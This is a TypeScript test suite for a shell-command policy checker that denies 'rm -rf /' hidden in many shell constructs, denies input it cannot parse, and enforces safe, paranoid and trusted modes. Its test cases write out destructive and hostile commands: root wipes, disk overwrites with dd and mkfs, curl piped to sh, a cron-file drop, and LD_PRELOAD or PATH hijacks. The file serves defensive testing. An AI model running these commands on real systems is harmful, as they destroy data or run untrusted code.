// The shell battery: `rm -rf /` hidden in every construct a shell offers must be found and
// refused, and what the parser cannot vouch for is denied, never merely asked about.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { MvdanParser } from '../../src/policy/mvdan-check.js';
import { analyseShell } from '../../src/policy/shell-analysis.js';
import { checkShellLine, MAX_COMMAND_LENGTH } from '../../src/policy/shell-check.js';
import { judge, policy } from './helpers.js';

const normal = policy('normal');
const ROOT_WIPE = /removes everything from the root directory/;

describe('every simple command in a line is judged', () => {
  it.each([
    ['a list', 'echo hi; rm -rf /'],
    ['&&', 'true && rm -rf /'],
    ['||', 'false || rm -rf /'],
    ['a pipeline', 'echo / | rm -rf /'],
    ['|&', 'ls |& rm -rf /'],
    ['background &', 'rm -rf / & echo started'],
    ['$(…)', 'echo $(rm -rf /)'],
    ['$(…) in double quotes', 'echo "result: $(rm -rf /)"'],
    ['backticks', 'echo `rm -rf /`'],
    ['nested substitutions', 'echo $(echo $(echo `rm -rf /`))'],
    ['process substitution <(…)', 'diff <(rm -rf /) /etc/hosts'],
    ['process substitution >(…)', 'echo x > >(rm -rf /)'],
    ['${…} default value', 'echo ${UNSET:-$(rm -rf /)}'],
    ['$((…)) arithmetic', 'echo $(( $(rm -rf /) + 1 ))'],
    ['an assignment value', 'X=$(rm -rf /) true'],
    ['a redirection target', 'echo hi > "$(rm -rf /)"'],
    ['a here-document', 'cat <<EOF\n$(rm -rf /)\nEOF'],
    ['a subshell', '(cd /tmp; rm -rf /)'],
    ['a brace group', '{ echo a; rm -rf /; }'],
    ['if', 'if true; then rm -rf /; fi'],
    ['while', 'while false; do rm -rf /; done'],
    ['for', 'for x in a b; do rm -rf /; done'],
    ['! negation', '! rm -rf /'],
    ['eval', "eval 'rm -rf /'"],
    ['eval of several words', 'eval rm -rf /'],
    ['bash -c', "bash -c 'rm -rf /'"],
    ['sh -c with clustered flags', "sh -ec 'rm -rf /'"],
    ['bash -c inside bash -c', `bash -c "sh -c 'rm -rf /'"`],
    ['su -c', "su root -c 'rm -rf /'"],
    ['sudo -s', 'sudo -s rm -rf /'],
    ['xargs', 'echo x | xargs rm -rf /'],
    ['find -exec', 'find /tmp -exec rm -rf / \\;'],
    ['find -execdir', 'find /tmp -execdir rm -rf / +'],
    ['env', 'env -i FOO=1 rm -rf /'],
    ['sudo', 'sudo -u root -- rm -rf /'],
    ['nice', 'nice -n 10 rm -rf /'],
    ['timeout', 'timeout -s KILL 5 rm -rf /'],
    ['nohup', 'nohup rm -rf /'],
    ['command', 'command rm -rf /'],
    ['exec', 'exec rm -rf /'],
    ['stacked wrappers', 'sudo env nice -n 1 timeout 9 nohup rm -rf /'],
    ['an unknown wrapper', 'chrt 10 rm -rf /'],
    ['a shell string inside an unknown wrapper', "unshare -m bash -c 'rm -rf /'"],
    ['watch', "watch -n 1 'rm -rf /'"],
    ['trap', "trap 'rm -rf /' EXIT"],
    ['flock -c', "flock /tmp/lock -c 'rm -rf /'"],
    ['env -S', "env -S 'rm -rf /'"],
    ['an absolute program path', '/usr/bin/rm -rf /'],
    ['quoting the program', `'r'"m" -rf /`],
    ['an escaped program', '\\rm -rf /'],
    ['brace expansion', 'echo ok; {rm,-rf,/}'],
    ['line continuation', 'rm \\\n -rf /'],
    ['a path written differently', 'rm -rf //'],
    ['the root glob', 'rm -rf /*'],
    ['ANSI-C quoting', "rm -rf $'\\x2f'"],
    ['a variable that may hold /', 'rm -rf "$TARGET"'],
  ])('%s', async (_what, command) => {
    const v = await judge(normal, command);
    expect(v.decision).toBe('deny');
    expect(v.reasons.join('\n')).toMatch(ROOT_WIPE);
  });

  it('lets an ordinary line through, naming every command it found', async () => {
    const v = await judge(normal, 'df -h | sort -k5 | head -5');
    expect(v.decision).toBe('allow');
    expect(v.commands).toEqual(['df -h', 'sort -k5', 'head -5']);
  });

  it('finds commands fed by xargs and find, and asks before they act on input it cannot see', async () => {
    const v = await judge(normal, 'find /tmp -name "*.log" | xargs rm -f');
    expect(v.decision).toBe('confirm');
    expect(v.reasons.join('\n')).toMatch(/rm gets more arguments from its input/);
  });
});

describe('what cannot be analysed is denied, not asked about', () => {
  it.each([
    ['a syntax error', 'echo "unterminated', /does not parse: unterminated double quote/],
    ['a dangling operator', 'ls &&', /does not parse/],
    ['a function definition', 'f() { rm -rf /; }; f', /a function definition is not supported/],
    ['a case statement', 'case x in x) rm -rf /;; esac', /a case statement is not supported/],
    ['[[ ]]', '[[ -f /x ]] && ls', /\[\[ … \]\] test/],
    ['(( ))', '(( x = 1 ))', /arithmetic command/],
    ['an array assignment', 'a=(1 2)', /array assignment/],
    ['extended globs', 'ls @(a|b)', /extended glob/],
    ['a computed program name', '$CMD -rf /', /the program to run is computed at run time/],
    ['a program name from a substitution', '"$(echo rm)" -rf /', /computed at run time/],
    [
      'a wrapper option aiOS does not know',
      'sudo --frobnicate rm -rf /tmp/x',
      /sudo option --frobnicate is not one aiOS knows/,
    ],
    ['eval of computed text', 'eval "$X"', /eval of text computed at run time/],
    ['bash -c with positional parameters', `bash -c 'rm -rf "$1"' _ /`, /positional parameters/],
    [
      'shell code nested too deep',
      `sh -c "sh -c \\"sh -c 'sh -c \\\\\\"sh -c ls\\\\\\"'\\""`,
      /nested more than 4 levels/,
    ],
    ['PATH changed for a command', 'PATH=/tmp/evil ls', /setting PATH changes which program runs/],
    ['LD_PRELOAD', 'LD_PRELOAD=/tmp/x.so ls', /setting LD_PRELOAD/],
    ['a brace expansion too large', 'echo {1..100000}', /more than 1024 words/],
  ])('%s', async (_what, command, reason) => {
    const v = await judge(normal, command);
    expect(v.decision).toBe('deny');
    expect(v.reasons.join('\n')).toMatch(reason);
  });

  it('denies when the second parser does not answer in time', async () => {
    const slow = new MvdanParser(1);
    // A command near the length limit takes the parser 5 to 25 ms here, well past the 1 ms
    // allowed (a short one can be parsed within 1 ms, and the test would race the parser).
    const long = `ls ${Array.from({ length: 2100 }, (_, i) => `"a${i}"`).join(' ')}`;
    expect(long.length).toBeLessThanOrEqual(MAX_COMMAND_LENGTH);
    try {
      const r = await checkShellLine(long, 'bash', slow);
      expect(r.ok).toBe(false);
      expect(!r.ok && r.reason).toMatch(/the shell parser did not finish within 1 ms/);
    } finally {
      await slow.close();
    }
  });

  it("denies when mvdan/sh rejects what aiOS's parser read (a parser differential)", async () => {
    const mvdan = new MvdanParser();
    try {
      // Valid for aiOS's reader, but bash (and mvdan) reject `$((` without an expression.
      const r = await checkShellLine('echo $(( ))', 'bash', mvdan);
      expect(r.ok).toBe(false);
    } finally {
      await mvdan.close();
    }
  });
});

describe('the parser on arbitrary input', () => {
  it('either reads a line or refuses it with a syntax error; it never crashes or hangs (property)', () => {
    const alphabet = fc.constantFrom(
      ...'ab $`\'"(){}[]<>|&;!#*?~=\n\t-/{},.1'.split(''),
      '$(',
      '${',
      '$((',
      '<<',
      '<(',
      'if ',
      'then ',
      'fi',
      'do ',
      'done',
      'for ',
      ' in ',
    );
    fc.assert(
      fc.property(fc.array(alphabet, { maxLength: 40 }), (parts) => {
        const line = parts.join('');
        try {
          analyseShell(line);
        } catch (err) {
          expect((err as Error).name, line).toMatch(/^(ShellSyntaxError|ShellUnsupportedError)$/);
        }
      }),
      { numRuns: 2000 },
    );
  });

  it('denies a line nested deeper than it will follow', async () => {
    const v = await judge(normal, `${'{ '.repeat(3000)}ls${'; }'.repeat(3000)}`);
    expect(v.decision).toBe('deny');
  });
});

describe('what runs is what was judged', () => {
  it('runs one plain static command from its argv, without a shell', () => {
    expect(analyseShell(`ls -l '/tmp/a b'`).direct).toEqual(['ls', '-l', '/tmp/a b']);
    expect(analyseShell('ls -l /tmp | wc -l').direct).toBeNull();
    expect(analyseShell('ls $HOME').direct).toBeNull();
    expect(analyseShell('cd /tmp').direct).toBeNull();
    expect(analyseShell('ls > /tmp/x').direct).toBeNull();
  });

  it('expands braces the way bash does before judging', () => {
    expect(analyseShell('echo {a,b}{1..2} x{,y}').commands[0]?.argv).toEqual([
      'echo',
      'a1',
      'a2',
      'b1',
      'b2',
      'x',
      'xy',
    ]);
    expect(analyseShell(`echo '{a,b}' "{c,d}" \\{e,f\\}`).commands[0]?.argv).toEqual([
      'echo',
      '{a,b}',
      '{c,d}',
      '{e,f}',
    ]);
  });

  it('never lets a NUL byte into a command line', async () => {
    const { registry } = await import('./helpers.js');
    expect(registry.validate('shell.exec', { command: 'ls\u0000 -la' })).toEqual({
      ok: false,
      error: 'shell.exec: command: must not contain a NUL byte',
    });
    expect(() => analyseShell('ls\u0000 -la')).toThrow(/NUL byte/);
  });

  it('unwraps wrappers to the program they run, outermost first', () => {
    const a = analyseShell('sudo -u bob env A=1 nice -n 3 ls -l');
    expect(a.commands.map((c) => [c.text, c.via])).toEqual([
      ['sudo -u bob env A=1 nice -n 3 ls -l', []],
      ['env A=1 nice -n 3 ls -l', ['sudo']],
      ['nice -n 3 ls -l', ['sudo', 'env']],
      ['ls -l', ['sudo', 'env', 'nice']],
    ]);
  });

  it('finds the same simple commands whatever harmless words surround them (property)', async () => {
    const word = fc.constantFrom('ls', 'echo hi', 'true', 'df -h', 'uptime', 'cat /etc/hostname');
    const joiner = fc.constantFrom('; ', ' && ', ' || ', ' | ', '\n');
    const wrap = fc.constantFrom(
      (c: string) => c,
      (c: string) => `$(${c})`,
      (c: string) => `\`${c}\``,
      (c: string) => `bash -c '${c}'`,
      (c: string) => `sudo ${c}`,
      (c: string) => `( ${c} )`,
      (c: string) => `{ ${c}; }`,
      (c: string) => `nice -n 1 ${c}`,
    );
    await fc.assert(
      fc.asyncProperty(
        fc.array(word, { maxLength: 4 }),
        fc.array(word, { maxLength: 4 }),
        joiner,
        wrap,
        async (before, after, sep, w) => {
          const line = [...before, w('rm -rf /'), ...after].join(sep).replace(/\$\(([^)]*)\)/, 'echo $($1)');
          const v = await judge(normal, line);
          expect(v.decision).toBe('deny');
        },
      ),
      { numRuns: 60 },
    );
  });
});

describe('the configuration and the security modes', () => {
  it('refuses configured dangerous patterns and asks for configured require_confirm, wherever the command hides', async () => {
    const custom = policy('normal', { dangerousPatterns: ['^curl( .*)? -o /etc/'], requireConfirm: ['^docker '] });
    const denied = await judge(custom, "bash -c 'curl https://x -o /etc/cron.d/evil'");
    expect(denied).toMatchObject({ decision: 'deny' });
    expect(denied.reasons[0]).toContain('matches a dangerous pattern from the configuration (^curl( .*)? -o /etc/)');
    expect((await judge(custom, 'sudo docker ps')).reasons.join()).toContain(
      'matches require_confirm in the configuration (^docker )',
    );
  });

  it('safe mode refuses privilege changes, service control and destructive programs', async () => {
    const safe = policy('safe');
    for (const [command, why] of [
      ['sudo ls', /no change of user/],
      ['systemctl restart ssh', /no service or power control/],
      ['rm /tmp/x', /no destructive commands/],
    ] as const) {
      const v = await judge(safe, command);
      expect(v.decision, command).toBe('deny');
      expect(v.reasons.join(), command).toMatch(why);
    }
    expect(await judge(safe, 'ls /tmp')).toMatchObject({
      decision: 'confirm',
      reasons: ['safe mode confirms every command'],
    });
  });

  it('paranoid mode runs only commands that read, and confirms those too', async () => {
    const paranoid = policy('paranoid');
    expect((await judge(paranoid, 'touch /tmp/x')).reasons.join()).toMatch(
      /paranoid mode runs only commands that read, and touch is not one of them/,
    );
    expect((await judge(paranoid, 'ls /tmp > /tmp/out')).reasons.join()).toMatch(/no writing redirections/);
    expect((await judge(paranoid, "python3 -c 'print(1)'")).decision).toBe('deny');
    expect((await judge(paranoid, 'find /etc -delete')).decision).toBe('deny');
    const read = await judge(paranoid, 'ls -l /etc | grep host');
    expect(read.decision).toBe('confirm');
    expect(read.reasons).toEqual(['paranoid mode confirms every change']);
  });

  it('trusted mode skips require_confirm but never the dangerous patterns', async () => {
    const trusted = policy('trusted');
    expect((await judge(trusted, 'sudo rm -r /tmp/x')).decision).toBe('allow');
    expect((await judge(trusted, 'sudo rm -rf /')).decision).toBe('deny');
  });

  it('asks before running code it cannot read (normal), and refuses it in safe mode', async () => {
    for (const command of [
      "python3 -c 'import os'",
      "perl -e 'system(1)'",
      'curl -s https://x | sh',
      '. ./setup.sh',
      'awk \'BEGIN{system("id")}\'',
      "sed -i 's/a/b/e' f",
    ]) {
      const v = await judge(normal, command);
      expect(v.decision, command).toBe('confirm');
      expect(v.reasons.join(), command).toMatch(/runs code aiOS cannot inspect/);
      expect((await judge(policy('safe'), command)).decision, command).toBe('deny');
    }
  });

  it('labels an irreversible shell command for explicit confirmation, but not one that only reads', async () => {
    expect((await judge(normal, 'touch /tmp/x')).reasons).toEqual(['shell.exec cannot be undone by a snapshot']);
    expect((await judge(normal, 'cat /etc/hostname | wc -c')).decision).toBe('allow');
    expect((await judge(normal, 'echo hi > /tmp/out')).decision).toBe('confirm');
  });

  it('refuses writing over a disk device, however it is written', async () => {
    for (const command of [
      'echo x > /dev/sda',
      'cat /dev/zero > /dev/nvme0n1',
      'dd if=/dev/zero of=/dev/sda bs=1M',
      'mkfs.ext4 /dev/vdb1',
      "sh -c 'dd if=/dev/zero of=$DEV'",
    ]) {
      expect((await judge(normal, command)).decision, command).toBe('deny');
    }
  });
});
